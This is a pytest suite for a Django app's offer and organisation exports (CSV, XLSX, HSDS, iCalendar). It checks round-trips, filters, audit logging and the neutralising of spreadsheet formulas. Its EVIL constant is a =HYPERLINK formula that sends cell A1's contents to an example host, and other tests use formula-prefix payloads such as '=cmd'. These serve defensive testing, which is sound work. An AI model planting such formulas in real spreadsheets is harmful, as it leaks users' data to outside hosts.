"""What goes out comes back unchanged; nothing that goes out runs in a spreadsheet; nothing private goes out."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from icalendar import Calendar

from tests.interfaces.making import EDITOR, checked, imported
from tests.offers.factories import draft, municipality, text
from tests.world import World
from vielklang.core.models import AuditEntry
from vielklang.core.scope import centre_scope
from vielklang.interfaces.exports import offer_forms, organisation_forms
from vielklang.interfaces.exports.cells import cells_of, with_parts
from vielklang.interfaces.formulas import neutral, plain
from vielklang.interfaces.imports.tables import xlsx_rows
from vielklang.offers.actions import create_offer, publish_offer
from vielklang.offers.calendar import BERLIN
from vielklang.offers.drafts import DateDraft, ExceptionDraft, HoursDraft, PlaceDraft
from vielklang.offers.models import Offer

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://example.org/?x="&A1;"Klick")'
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "''+1", "＝1", " =1")


SERIES = DateDraft(
    starts_at=dt.datetime(2026, 12, 1, 15, 0, tzinfo=BERLIN),
    duration=dt.timedelta(minutes=90),
    rrule="FREQ=WEEKLY;BYDAY=TU",
    until=dt.date(2027, 6, 30),
    exdates=(dt.date(2026, 12, 22), dt.date(2026, 12, 29)),
    on_holidays=True,
)
SINGLE = DateDraft(
    starts_at=dt.datetime(2027, 7, 3, 10, 30, tzinfo=BERLIN), duration=dt.timedelta(minutes=45)
)


def count(world: World) -> int:
    """How many offers of home an export has."""
    return Offer.objects.filter(centre=world.home).exclude(status="archived").count()


def rich(world: World) -> Offer:
    """An offer with everything a table can say."""
    new = draft(
        centre=world.home,
        organisation=world.organisation,
        texts=(
            text(title="=Schulden & Co", description="- eins\n- zwei\n\n@drei;vier\"fünf'"),
            text("ar", title="استشارة", bring="+رسائل"),
            text("de-simple", title="Hilfe bei Schulden", status="draft"),
            text("uk", title="Борги", status="machine"),
        ),
        topics=("debt-advice", "bank-and-consumer"),
        target_groups=("women", "parents"),
        age_from=Decimal("0.5"),
        age_to=Decimal(6),
        cost_kind="reduced",
        cost_amount=Decimal("12.50"),
        interpreting=True,
        languages=("de", "ckb", "uk"),
        municipality=municipality(),
        lift="yes",
        documents=("passport_or_id",),
        conditions=("membership",),
        valid_from=dt.date(2026, 1, 1),
        valid_until=dt.date(2030, 12, 31),
        phone="02821 123456",
        email="beratung@example.org",
        website="https://example.org/a?b=c",
        places=(
            PlaceDraft(name="Haus A", street="Beispielstraße 1", postcode="47533", town="Kleve",
                       municipality=municipality(), lat=51.789, lon=6.1381, note="Hof"),
            PlaceDraft(name="Haus B", town="Irgendwo"),
        ),
        hours=(
            HoursDraft(weekday=0, opens=dt.time(9), closes=dt.time(12)),
            HoursDraft(weekday=2, opens=dt.time(14), closes=dt.time(23, 59), place=1),
        ),
        exceptions=(
            ExceptionDraft(date=dt.date(2026, 12, 24), reason="Betriebs(ferien)"),
            ExceptionDraft(date=dt.date(2026, 12, 31), opens=dt.time(9), closes=dt.time(11), place=0),
        ),
        dates=(SERIES, SINGLE),
    )  # fmt: skip
    return publish_offer(by=EDITOR, offer=create_offer(by=EDITOR, draft=new))


def download(
    world: World, form: str, *, query: str = "", role: str = "lead", what: str = "export_offers"
) -> bytes:
    address = reverse(f"interfaces:{what}", args=[world.home.slug, form])
    answer = world.client(role).post(f"{address}{query}")
    assert answer.status_code == 200
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def table(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_an_exported_table_comes_back_unchanged(world, form):
    rich(world)

    run = checked(world.home, download(world, form), f"angebote.{form}")

    assert run.report["errors"] == []
    assert run.report["counts"] == {"unchanged": count(world)}


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_an_exported_table_makes_the_same_offer_elsewhere(world, form):
    before = cells_of(with_parts(Offer.objects).get(pk=rich(world).pk))
    content = download(world, form, query="?q=Schulden")
    Offer.objects.filter(texts__title="=Schulden & Co").delete()

    rows = {"csv": table, "xlsx": lambda x: [row.cells for row in xlsx_rows(x)]}[form](content)
    row = {name: value for name, value in rows[0].items() if name != "id"}
    names = list(row)
    file = io.StringIO()
    writer = csv.DictWriter(file, names, delimiter=";")
    writer.writeheader()
    writer.writerow(row)
    imported(world.home, file.getvalue().encode())

    after = cells_of(with_parts(Offer.objects).get(texts__title="=Schulden & Co"))
    assert after | {"id": before["id"]} == before


def test_one_edited_cell_changes_one_offer(world):
    offer = rich(world)
    rows = table(download(world, "csv"))
    edited = [row | ({"costs_de": "zwölf Euro"} if row["id"] == str(offer.public_id) else {}) for row in rows]
    file = io.StringIO()
    writer = csv.DictWriter(file, list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(edited)

    run = imported(world.home, file.getvalue().encode())

    assert run.report["counts"] == {"unchanged": count(world) - 1, "changed": 1}
    assert offer.texts.get(language="de").costs == "zwölf Euro"
    assert offer.texts.count() == 4


@given(st.text(alphabet="=+-@'\t\r\n ab＝", max_size=8))
def test_neutral_is_harmless_and_can_be_taken_back(words):
    assert plain(neutral(words)) == words
    assert neutral(words)[:1] not in set("=+-@\t\r\n＝＋－＠") - {""}


@pytest.mark.parametrize("evil", [EVIL, *FORMULAS])
@pytest.mark.parametrize("form", ["csv", "hsds-csv"])
def test_no_cell_of_an_exported_table_begins_like_a_formula(world, form, evil):
    offer = rich(world)
    offer.texts.update(title=evil, description=evil, costs=evil)
    offer.places.update(name=evil)

    content = download(world, form)

    if form == "csv":
        texts = [content.decode("utf-8-sig")]
    else:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            texts = [archive.read(name).decode() for name in archive.namelist()]
    delimiter = ";" if form == "csv" else ","
    cells = [
        cell
        for one in texts
        for row in csv.reader(io.StringIO(one, newline=""), delimiter=delimiter)
        for cell in row
    ]
    assert any(evil.strip() in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip()[:1] in set("=+-@＝＋－＠") - {""}] == []


def test_no_cell_of_an_exported_sheet_is_a_formula(world):
    offer = rich(world)
    offer.texts.update(title=EVIL)
    for form, what in (("xlsx", "export_offers"), ("xlsx", "export_organisations")):
        with zipfile.ZipFile(io.BytesIO(download(world, form, what=what))) as archive:
            sheets = [archive.read(name) for name in archive.namelist() if "worksheets/sheet" in name]
        assert sheets
        assert not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)


def test_formulas_in_names_of_organisations_are_neutralised(world):
    type(world.organisation).objects.filter(pk=world.organisation.pk).update(name=EVIL)

    cells = [
        value for row in table(download(world, "csv", what="export_organisations")) for value in row.values()
    ]

    assert neutral(EVIL) in cells


def test_the_report_of_an_import_is_neutralised(world):
    run = checked(world.home, b'title_de;=cmd\n"x";"y"\n')

    answer = world.client("lead").get(
        reverse("interfaces:import_problems", args=[world.home.slug, run.public_id])
    )

    cells = [
        cell
        for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";")
        for cell in row
    ]
    assert "'=cmd" in cells
    assert [cell for cell in cells if cell[:1] in set("=+-@")] == []


def test_filters_of_the_list_hold(world):
    rich(world)

    assert len(table(download(world, "csv"))) == count(world)
    assert len(table(download(world, "csv", query="?q=schulden"))) == 1
    assert len(table(download(world, "csv", query="?topic=bank-and-consumer"))) == 1
    drafts = Offer.objects.filter(centre=world.home, status="draft").count()
    assert len(table(download(world, "csv", query="?status=draft"))) == drafts
    for organisation, expected in ((world.organisation, 2), (world.foreign_organisation, 0)):
        found = table(download(world, "csv", query=f"?organisation={organisation.public_id}"))
        assert len(found) == expected


def test_only_the_centres_own_offers_go_out(world):
    assert str(world.foreign_offer.public_id).encode() not in download(world, "csv")
    for form in offer_forms():
        assert world.foreign_organisation.name.encode() not in download(world, form)


def test_hsds_page_has_its_header_and_what_the_schema_requires(world):
    offer = rich(world)

    page = json.loads(download(world, "hsds"))

    assert {name: page[name] for name in page if name != "contents"} == {
        "total_items": count(world), "total_pages": 1, "page_number": 1, "size": count(world), "first_page": True,
        "last_page": True,
        "empty": False,
    }  # fmt: skip
    service = next(x for x in page["contents"] if x["id"] == str(offer.public_id))
    assert (service["name"], service["status"]) == ("=Schulden & Co", "active")
    assert {"id", "name", "description"} <= set(service["organization"])
    address = service["service_at_locations"][0]["location"]["addresses"][0]
    assert {"id", "address_1", "city", "state_province", "postal_code", "country", "address_type"} <= set(
        address
    )
    assert "assured_date" not in service
    assert not any(value in (None, "") for value in service.values())


@pytest.mark.parametrize("form", ["hsds", "hsds-csv"])
def test_hsds_comes_back_to_the_same_entries(world, form):
    offer = rich(world)
    name = {"hsds": "services.json", "hsds-csv": "services.zip"}[form]

    run = checked(world.home, download(world, form), name)

    assert run.report["errors"] == []
    with centre_scope(world.home):
        rows = {row.match_id: row for row in run.rows.all()}
    assert {offer.pk, world.offer.pk} <= set(rows)
    assert len(rows) == count(world)
    assert {"topics", "languages", "hours", "phone"}.isdisjoint(rows[world.offer.pk].changed)


def test_calendar_holds_the_dates(world):
    rich(world)

    events = Calendar.from_ical(download(world, "icalendar")).walk("VEVENT")

    assert sorted(bool(event.get("RRULE")) for event in events) == [False, True]


def test_pages_have_what_the_app_reads(world):
    rich(world)

    pages = json.loads(download(world, "integreat"))

    page = next(x for x in pages["ar"] if x["title"] == "استشارة")
    assert set(page["available_languages"]) == {"de", "de-si", "uk"}
    assert page["content"].startswith("<p>")
    assert page["path"].startswith(f"/{world.home.slug}/ar/")


@pytest.mark.parametrize("what", ["offers", "organisations"])
def test_each_export_leaves_an_audit_entry(world, what):
    forms = {"offers": offer_forms(), "organisations": organisation_forms()}[what]
    for form in forms:
        download(world, form, what=f"export_{what}", query="?q=Beispiel")

    with centre_scope(world.home):
        entries = AuditEntry.objects.filter(event=f"{what} exported")
        assert set(entries.values_list("subject_label", flat=True)) == set(forms)
        assert {entry.details["filters"]["q"] for entry in entries} == {"Beispiel"}


def test_a_text_too_long_for_excel_is_said_and_not_cut(world):
    rich(world).texts.filter(language="de").update(description="x" * 40_000)
    address = reverse("interfaces:export_offers", args=[world.home.slug, "xlsx"])

    answer = world.client("lead").post(address, follow=True)

    assert "too long for Excel" in answer.content.decode() or "zu lang" in answer.content.decode()
